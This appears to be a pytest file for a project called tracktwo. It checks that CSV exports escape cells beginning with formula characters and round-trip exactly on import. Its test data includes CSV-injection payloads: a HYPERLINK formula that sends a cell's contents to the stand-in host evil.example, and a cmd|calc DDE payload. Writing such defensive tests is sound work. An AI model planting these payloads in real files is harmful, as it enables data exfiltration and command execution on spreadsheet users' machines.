"""CSV injection: every CSV tracktwo writes gives text cells that a spreadsheet would run as a
formula (starting with = + - @, a tab or a CR) a leading ', numbers stay numbers, and an
exported CSV imports back exactly."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from conftest import gdelt2_line
from typer.testing import CliRunner

from tracktwo._csv import safe_cell, unescape_cell
from tracktwo.bridges import Activity, Actor, Registry, Tie
from tracktwo.bridges._export import registry_rows
from tracktwo.cli import app

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# (name, country, kind, longitude): each name starts with one of the six trigger characters,
# or looks like an escape already, or like a number; the countries and kinds keep every
# actor distinct for the import ("\tx" and "\rx" both normalise to "x")
ACTORS = [
    (HYPERLINK, "KHM", "city", 104.91667),
    ("+cmd|' /C calc'!A0", "USA", "city", -118.18923),
    ("-2+3", "KHM", "ngo", None),
    ("@SUM(A1:A2)", "USA", "university", None),
    ("\tx", "KHM", "university", None),
    ("\rx", "USA", "ngo", None),
    ("'=already quoted", "KHM", "farmers", None),
    ("-5", "USA", "farmers", None),
]
# what a spreadsheet must see in the name column, written out by hand
ESCAPED_NAMES = [
    "'" + HYPERLINK,
    "'+cmd|' /C calc'!A0",
    "'-2+3",
    "'@SUM(A1:A2)",
    "'\tx",
    "'\rx",
    "''=already quoted",  # one more ', so the import can take exactly one off
    "'-5",  # text that looks like a number is text: prefixed, as OWASP says
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _fill(registry: Registry) -> None:
    """The actors above, written straight into the registry (an import would strip the tab
    and CR), a tie between the first two with formula-like evidence, and one activity."""
    with registry.session() as session:
        actors = [
            Actor(name=name, country=country, kind=kind, longitude=longitude, latitude=-12.5)
            for name, country, kind, longitude in ACTORS
        ]
        session.add_all(actors)
        session.flush()
        tie = Tie(actor_a_id=actors[0].id, actor_b_id=actors[1].id, channel="sister_city",
                  evidence="=1+1", areas=["culture"], start_date=date(2007, 1, 1))  # fmt: skip
        session.add(tie)
        session.flush()
        session.add(Activity(tie_id=tie.id, activity_date=date(2019, 5, 2), kind="visit",
                             participants=12, note="+note"))  # fmt: skip


def _run(registry: Registry, tmp_path: Path, *args: str) -> str:
    base = ["--home", str(tmp_path / "h"), "bridges", "--db", registry.url]
    done = CliRunner().invoke(app, [*base, *args])
    assert done.exit_code == 0, done.output
    return done.stdout


def _table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _file(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # a CR inside a cell stays a CR
        return list(csv.DictReader(handle))


def _no_formula_cells(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(TRIGGERS):
                float(cell)  # only a number may start with "-": ValueError fails the test
                assert column in ("latitude", "longitude"), (column, cell)


def test_the_rule_on_single_cells() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell("plain") == "plain"
    assert safe_cell("'quoted") == "'quoted"  # not a formula: left alone
    assert safe_cell("''@x") == "'''@x"
    assert (safe_cell(-5), safe_cell(-5.0), safe_cell(None)) == (-5, -5.0, None)
    for text in ("=1+1", "'=1+1", "''@x", "'quoted", "'", "", "-5", "\tx", "a=b"):
        assert unescape_cell(safe_cell(text)) == text


@pytest.mark.postgres
def test_bridges_export_to_csv_escapes_formulas_and_imports_back_exactly(
    registry: Registry, tmp_path: Path
) -> None:
    _fill(registry)
    with registry.read() as session:
        original = registry_rows(session)
    out = tmp_path / "out"
    _run(registry, tmp_path, "export", str(out), "--to", "csv")
    actors, ties, activities = (_file(out / f"{t}.csv") for t in ("actors", "ties", "activities"))
    assert [a["name"] for a in actors] == ESCAPED_NAMES
    assert [a["longitude"] for a in actors[:2]] == ["104.91667", "-118.18923"]  # numbers
    assert {a["latitude"] for a in actors} == {"-12.5"}
    assert [a["id"] for a in actors] == [str(row["id"]) for row in original["actors"]]
    assert (ties[0]["actor_a"], ties[0]["actor_b"]) == ("'" + HYPERLINK, "'+cmd|' /C calc'!A0")
    assert ties[0]["evidence"] == "'=1+1"
    assert (activities[0]["note"], activities[0]["participants"]) == ("'+note", "12")
    for rows in (actors, ties, activities):
        _no_formula_cells(rows)

    registry.downgrade("base")
    registry.upgrade()
    for table in ("actors", "ties", "activities"):
        _run(registry, tmp_path, "import", str(out / f"{table}.csv"))
    with registry.read() as session:
        again = registry_rows(session)
    # ids are the same too: the empty registry numbers them again from 1 in the same order
    assert again == original
    assert [a["name"] for a in again["actors"]] == [name for name, *_ in ACTORS]


@pytest.mark.postgres
def test_format_csv_of_actors_and_ties_escapes_formulas(registry: Registry, tmp_path: Path) -> None:
    _fill(registry)
    actors = _table(_run(registry, tmp_path, "actors", "--format", "csv"))
    assert sorted(a["name"] for a in actors) == sorted(ESCAPED_NAMES)
    assert sorted(int(a["id"]) for a in actors) == list(range(1, 9))  # ids stay numbers
    _no_formula_cells(actors)
    ties = _table(_run(registry, tmp_path, "ties", "--format", "csv"))
    assert (ties[0]["actor_a"], ties[0]["actor_b"]) == ("'" + HYPERLINK, "'+cmd|' /C calc'!A0")
    assert (ties[0]["id"], ties[0]["activities"]) == ("1", "1")
    _no_formula_cells(ties)


def test_format_csv_keeps_negative_numbers_as_numbers(tmp_path: Path) -> None:
    source = tmp_path / "war.tsv"
    # CAMEO 190, "use conventional military force": Goldstein -10.0 in GDELT's own table
    source.write_text(
        gdelt2_line(1, "20190105", ("KHMGOV", "KHM", "GOV"), ("USAGOV", "USA", "GOV"), "190") + "\n"
    )
    home = ["--home", str(tmp_path / "h")]
    runner = CliRunner()
    assert runner.invoke(app, [*home, "events", "ingest", str(source)]).exit_code == 0
    done = runner.invoke(app, [*home, "pulse", "KHM", "USA", "--freq", "year", "--format", "csv"])
    assert done.exit_code == 0, done.output
    rows = _table(done.stdout)
    # every track has its row; only the official one has an event, so a value
    assert [(r["series"], r["value"]) for r in rows] == [
        ("official", "-10.0"),
        ("local", ""),
        ("people", ""),
        ("mixed", ""),
    ]


@pytest.mark.postgres
def test_an_approved_profile_named_as_a_formula_exports_as_text(
    registry: Registry, tmp_path: Path
) -> None:
    # the reproduction: the name comes in through open doors, not by an editor
    from tracktwo.accounts import add_user
    from tracktwo.doors import create_profile, decide_profile

    moderator = add_user(registry, "mona", "mona-password-1", "moderator", "mona@example.org")
    made = create_profile(registry, None, moderator, name=HYPERLINK, kind="farmers",
                          country="KHM", contact_email="coop@example.org")  # fmt: skip
    decide_profile(registry, None, moderator, made["id"], True)
    out = tmp_path / "actors.csv"
    _run(registry, tmp_path, "export", str(out), "--to", "csv", "--table", "actors")
    assert [a["name"] for a in _file(out)] == ["'" + HYPERLINK]
